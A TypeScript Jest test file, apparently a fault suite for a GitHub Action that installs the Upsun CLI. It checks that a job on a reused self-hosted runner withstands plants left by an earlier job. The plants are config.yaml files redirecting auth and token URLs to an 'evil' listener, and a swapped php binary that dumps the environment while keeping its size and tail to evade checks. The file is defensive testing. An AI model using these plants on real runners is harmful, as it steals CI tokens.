// Fault suite, a reused self-hosted runner: what an earlier job on the same
// runner user (another repository, a fork's build) can leave for the next
// job to run with its token. The earlier job plants, as an attacker would;
// the later job runs the bundled action and a later `upsun` step with the
// real CLI; the case checks that nothing received the token, and what post
// left. See ./harness.ts for the checks and where the figures go.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { chmodSync, existsSync, mkdtempSync, readdirSync } from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { SANDBOX_USER, makeCa, startApiServer } from '../../../sandbox/api.mjs'
import { canRun } from '../../../sandbox/availability.mjs'
import type { Job } from '../../../sandbox/runner.mjs'
import { ensureTestUser, resetHome, sshSandboxAvailable } from '../../../sandbox/sshd.mjs'
import { FaultSandbox, FaultSuite, TOKEN, type Step } from './harness.js'

const suite = new FaultSuite(import.meta.url)
const sb = new FaultSandbox(suite)
const PHP_CASE =
  "php in the CLI's unpack directory (~/.cache/upsun-tmp) swapped for a same-size, same-tail script"
const withUser = canRun(
  'reused-runner php case',
  sshSandboxAvailable(),
  'it needs root (a test user whose home two jobs share)'
)

/** The attacker's listener: an API that accepts no token and records every request. */
let evil: Awaited<ReturnType<typeof startApiServer>>
beforeAll(async () => {
  evil = await startApiServer({ tokens: [] })
}, 60_000)
afterAll(async () => {
  await evil.close()
})

/** A job on the same runner as the earlier one: the same home and tool cache. */
function sameRunner(first?: Job, extra: Parameters<FaultSuite['job']>[0] = {}): Job {
  return suite.job({ home: first?.home, toolCache: first?.toolCache, ...extra })
}

/** A config.yaml in the CLI's user directory, as an earlier job leaves it. */
async function plantConfig(job: Job, yaml: string): Promise<string> {
  const file = path.join(job.home, '.upsun-cli', 'config.yaml')
  const planted = await job.run(`mkdir -p ~/.upsun-cli && printf '%s' '${yaml}' > ${file}`)
  expect(planted.exitCode).toBe(0)
  return file
}

const evilConfig = (): string =>
  `api:\n  auth_url: ${evil.origin}\n  base_url: ${evil.origin}\n  oauth2_token_url: ${evil.origin}/oauth2/token\n  certifier_url: ${evil.origin}\n`

describe('faults: a reused self-hosted runner', () => {
  it.each([
    {
      fault: '~/.upsun-cli/config.yaml sending api.auth_url and api.base_url to a listener',
      yaml: () => `api:\n  auth_url: ${evil.origin}\n  base_url: ${evil.origin}\n`,
      inputs: () => ({ ...sb.base(), token: TOKEN }),
      keys: 'api.auth_url, api.base_url'
    },
    {
      fault:
        '~/.upsun-cli/config.yaml setting api.oauth2_token_url alone, with auth-url and api-url given',
      yaml: () => `api:\n  oauth2_token_url: ${evil.origin}/oauth2/token\n`,
      inputs: () => sb.withToken(),
      keys: 'api.oauth2_token_url'
    },
    {
      fault:
        '~/.upsun-cli/config.yaml renaming the variables the CLI reads (application.env_prefix)',
      yaml: () => `application:\n  env_prefix: PLANTED_\napi:\n  auth_url: ${evil.origin}\n`,
      inputs: () => sb.withToken(),
      keys: 'application.env_prefix, api.auth_url'
    }
  ])('user config: $fault', async ({ fault, yaml, inputs, keys }) => {
    const earlier = sameRunner()
    const file = await plantConfig(earlier, yaml())
    const before = evil.requests.length
    const job = sameRunner(earlier)
    const step = await job.main(inputs(), { timeoutMs: 60_000 })
    // A later step, as a workflow with `if: always()` would run it (here `upsun` is not even on PATH).
    const later = await job.run('upsun auth:info -P email --refresh --no-interaction || true')
    // Refused before any CLI run or request: nothing sent anywhere, installed or exported.
    expect(evil.requests.length).toBe(before)
    expect(later.stdout).toBe('')
    expect(step.exitCode).toBe(1)
    const error = step.errors.join('\n')
    expect(error).toContain(`${file} sets ${keys}. Upsun CLI takes any setting from this file`)
    expect(step.exported).toEqual({})
    expect(step.paths).toEqual([])
    expect(readdirSync(job.toolCache)).toEqual([])
    const post = await job.post()
    expect(post.exitCode).toBe(0)
    suite.record({
      group: 'reused runner',
      fault,
      outcome: 'refused',
      detail: `${error.replace(/^setup-upsun-cli failed: /, '')} (the listener got ${evil.requests.length - before} requests)`
    })
  })

  it('user config planted after the action ran (a step between): a later upsun step still uses the checked endpoints', async () => {
    const job = sameRunner()
    const step = await job.main(sb.withToken(), { timeoutMs: 60_000 })
    expect(step.errors).toEqual([])
    await plantConfig(job, evilConfig())
    const before = evil.requests.length
    const exchanges = sb.api.requests.filter((r) => r.path === '/oauth2/token').length
    const later = await job.run('upsun auth:info -P email --refresh --no-interaction')
    expect(evil.requests.length).toBe(before)
    expect(later.stdout.trim()).toBe(SANDBOX_USER.email)
    expect(step.exported).toMatchObject({
      UPSUN_CLI_API_AUTH_URL: sb.api.origin,
      UPSUN_CLI_API_BASE_URL: sb.api.origin,
      UPSUN_CLI_OAUTH2_TOKEN_URL: `${sb.api.origin}/oauth2/token`,
      UPSUN_CLI_CERTIFIER_URL: sb.api.origin
    })
    // The later step exchanged the token itself, at the checked endpoint.
    expect(sb.api.requests.filter((r) => r.path === '/oauth2/token').length).toBe(exchanges + 1)
    expect((await job.post()).exitCode).toBe(0)
    suite.record({
      group: 'reused runner',
      fault:
        '~/.upsun-cli/config.yaml (api.auth_url, base_url, oauth2_token_url, certifier_url) planted after the action ran',
      outcome: 'survived',
      detail:
        'the later `upsun auth:info` exchanged the token at the checked auth URL (the exported {P}OAUTH2_TOKEN_URL and the others beat the file); the listener got nothing'
    })
  })

  it('an answer holding Unicode format characters (a right-to-left override, zero-width characters)', async () => {
    sb.api.fault(/^\/users\/me$/, {
      status: 200,
      body: JSON.stringify({
        ...SANDBOX_USER,
        email: 'bot\u200b@exa\u202emple.com\u202c\ufeff',
        id: `${SANDBOX_USER.id}\u2066\u2069`
      })
    })
    const step: Step = await suite.expectOutcome('reused runner', {
      fault: '/users/me email and id holding U+200B, U+202E, U+202C, U+FEFF, U+2066, U+2069',
      expect: 'survived',
      inputs: () => sb.withToken(),
      said: (s) => `printed: ${/^Authenticated as .*/m.exec(s.log)?.[0] ?? '(none)'}`
    })
    expect(step.log).toContain(`Authenticated as bot@example.com (user id ${SANDBOX_USER.id}).`)
    expect(step.outputs['user-email']).toBe('bot@example.com')
    expect(step.outputs['user-id']).toBe(SANDBOX_USER.id)
    expect(step.summary).not.toMatch(/\p{Cf}/u)
  })

  // The real CLI's ssh-cert:load runs the unpacked php with the token: the
  // job must be a test user (the action edits the passwd home's ~/.ssh).
  if (withUser) {
    it(`unpack directory: ${PHP_CASE}`, async () => {
      const user = ensureTestUser()
      resetHome(user)
      const ca = await startApiServer({ tokens: [TOKEN], ca: makeCa(), principals: [user.name] })
      const records = mkdtempSync(path.join(os.tmpdir(), 'planted-php-'))
      chmodSync(records, 0o777) // the test user's planted php writes here
      try {
        const inputs = {
          ...sb.base(),
          token: TOKEN,
          'auth-url': ca.origin,
          'api-url': ca.origin,
          'ssh-cert': 'true'
        }
        // The earlier job: installs the CLI, unpacks it where the CLI does by
        // default, and swaps php for a script that records its environment
        // and runs the real one, keeping the size and the last 32 KiB (all
        // the CLI compares before reusing the file).
        const earlier = sameRunner(undefined, { user, home: user.home })
        expect((await earlier.main(sb.base())).errors).toEqual([])
        const plant = await earlier.run(
          [
            'env -u UPSUN_CLI_TMP upsun list >/dev/null',
            `d=~/.cache/upsun-tmp/legacy-${sb.real}`,
            'cp "$d/php" ~/.cache/.php-real',
            'size=$(stat -c %s "$d/php")',
            `printf '#!/bin/sh\\nenv -0 > ${records}/env-$$\\nexec ~/.cache/.php-real "$@"\\n' > ~/.cache/.head`,
            'pad=$((size - 32768 - $(stat -c %s ~/.cache/.head)))',
            '{ cat ~/.cache/.head; head -c "$pad" /dev/zero | tr "\\0" "\\n"; tail -c 32768 "$d/php"; } > ~/.cache/.php-planted',
            'cat ~/.cache/.php-planted > "$d/php"',
            'test "$(stat -c %s "$d/php")" = "$size"'
          ].join(' && ')
        )
        expect(plant.exitCode).toBe(0)
        await earlier.post()
        const recorded = (): string[] => readdirSync(records).filter((n) => n.startsWith('env-'))

        // The later job: the action (its own ssh-cert:load runs php), a later upsun step, post.
        for (let round = 0; round < 2; round++) {
          const job = sameRunner(earlier, { user, home: user.home })
          const step = await job.main(inputs, { timeoutMs: 90_000 })
          expect(step.errors).toEqual([])
          expect(step.outputs['ssh-cert-path']).toBeTruthy()
          const later = await job.run('upsun auth:info -P email --refresh --no-interaction')
          expect(later.stdout.trim()).toBe(SANDBOX_USER.email)
          // Neither the action's ssh-cert:load nor the later step ran the planted php.
          expect(recorded()).toEqual([])
          const tmp = step.exported.UPSUN_CLI_TMP
          expect(tmp).toMatch(new RegExp(`^${job.temp}/setup-upsun-cli-tmp-\\w{6}$`))
          expect(readdirSync(path.join(tmp, 'upsun-tmp'))).toEqual([`legacy-${sb.real}`])
          expect((await job.post()).warnings).toEqual([])
          expect(existsSync(tmp)).toBe(false)
        }
        // The control: the plant is armed, so the checks above could fail. A
        // run that does not get the job's directory executes it.
        const control = sameRunner(earlier, { user, home: user.home })
        await control.run('"$CLI" list >/dev/null', {
          env: { CLI: path.join(earlier.toolCache, 'upsun', sb.real, 'x64', 'upsun') }
        })
        expect(recorded().length).toBeGreaterThan(0)
        suite.record({
          group: 'reused runner',
          fault: PHP_CASE,
          outcome: 'survived',
          detail:
            "two later jobs (the action's ssh-cert:load, a later `upsun auth:info`) unpacked into their own UPSUN_CLI_TMP under RUNNER_TEMP and never ran the planted php; post removed that directory; a run without it (the control) did run the planted php"
        })
      } finally {
        await ca.close()
        resetHome(user)
      }
    })
  } else {
    suite.skipped('reused runner', PHP_CASE, 'needs root (a test user)')
  }

  it('leaks nothing in any of these runs, and records its figures', () => {
    suite.expectNoLeaks(6)
  })
})
